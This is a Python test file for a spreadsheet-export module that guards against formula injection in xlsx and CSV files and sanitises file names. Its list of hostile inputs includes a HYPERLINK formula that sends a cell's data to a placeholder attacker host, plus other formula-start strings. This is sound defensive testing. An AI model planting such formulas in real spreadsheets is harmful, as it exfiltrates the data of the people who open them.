"""core.spreadsheet: text that a spreadsheet would evaluate is written as text; numbers stay numbers."""
from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import date, datetime
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from liaison.core.spreadsheet import csv_row, csv_value, file_name, looks_like_formula, xlsx_file

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A3,"点此查看")', "+1+2", "@SUM(A1)", "-2+3", "\t=1", "\r=1",
           "＝1+1", "=1"]
HARMLESS = ["甲区一街道人大代表联络站", "王 =1", "", "a-b", "'=1", " 1", "2+3", "—"]


def read_back(text: str) -> str:
    """What openpyxl reads back for ``text`` stored in a sheet. Written through lxml (installed
    with python-docx) a carriage return is escaped as ``&#13;`` and survives; written through
    openpyxl's own XML writer it is raw, and XML turns it into a line feed (XML 1.0 §2.11)."""
    import openpyxl

    return text if openpyxl.LXML else text.replace("\r", "\n")


@pytest.mark.parametrize("text", HOSTILE)
def test_text_with_a_formula_start_looks_like_a_formula(text):
    assert looks_like_formula(text)


@pytest.mark.parametrize("value", [*HARMLESS, -2, -2.5, 0, 3, date(2025, 3, 1), True, None])
def test_other_text_and_every_non_text_value_does_not(value):
    assert not looks_like_formula(value)


def test_xlsx_cells_with_formula_text_read_back_as_the_same_plain_text():
    wb = Workbook()
    ws = wb.active
    ws.append(HOSTILE)
    ws.append([f"{HOSTILE[0]}人大代表联络站数据分析"])  # a title that starts with a name
    other = wb.create_sheet("第二页")
    other["C7"] = "=SUM(A1:A3)"  # a cell set directly, on a second sheet
    cells = load_workbook(xlsx_file(wb))
    for cell, text in zip(cells.active[1], HOSTILE):
        assert (cell.data_type, cell.value, cell.quotePrefix) == ("s", read_back(text), True), text
    assert cells.active["A2"].data_type == "s" and cells.active["A2"].value.startswith("=HYPERLINK(")
    assert (cells["第二页"]["C7"].data_type, cells["第二页"]["C7"].value) == ("s", "=SUM(A1:A3)")


def test_xlsx_file_holds_no_formula_element():
    wb = Workbook()
    wb.active.append(HOSTILE)
    with zipfile.ZipFile(xlsx_file(wb)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet and "HYPERLINK" in sheet


def test_xlsx_numbers_dates_and_harmless_text_keep_their_type():
    wb = Workbook()
    row = [-2, -2.5, 0, 12, datetime(2025, 3, 15), True, *HARMLESS]
    wb.active.append(row)
    cells = load_workbook(xlsx_file(wb)).active[1]
    assert [c.value for c in cells] == [v if v != "" else None for v in row]
    assert [c.data_type for c in cells[:6]] == ["n", "n", "n", "n", "d", "b"]
    assert not any(c.quotePrefix for c in cells)


def test_csv_fields_with_formula_text_get_an_apostrophe_and_numbers_do_not():
    out = io.StringIO()
    csv.writer(out).writerow(csv_row([*HOSTILE, -2, -2.5, 7, "王一"]))
    fields = next(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert fields == ["'" + t for t in HOSTILE] + ["-2", "-2.5", "7", "王一"]
    assert csv_value(-2) == -2 and csv_value("＠x") == "'＠x" and csv_value("王 =1") == "王 =1"


def test_file_names_lose_line_breaks_control_characters_and_path_signs():
    assert file_name('\r\n=1\t/a\\b:"c"<>|?*\x7f王一.xlsx') == "__=1__a_b__c_______王一.xlsx"
    assert file_name("测试市甲区联络站数据分析-2025-03.xlsx") == "测试市甲区联络站数据分析-2025-03.xlsx"


def test_every_excel_and_csv_export_in_the_code_base_writes_through_this_module():
    import liaison

    root = Path(liaison.__file__).parent
    writers = {}
    for path in root.rglob("*.py"):
        text = path.read_text(encoding="utf-8")
        if path.relative_to(root).as_posix() != "core/spreadsheet.py" and re.search(
                r"\bWorkbook\(|csv\.writer|csv\.DictWriter", text):
            writers[path.relative_to(root).as_posix()] = text
    assert {"stats/export.py", "reception/export.py"} <= set(writers)
    for name, text in writers.items():
        assert "core.spreadsheet import" in text, name
        assert ".save(" not in text, f"{name}: save through xlsx_file()"
        assert "writerow(" not in text or "csv_row(" in text, f"{name}: rows through csv_row()"
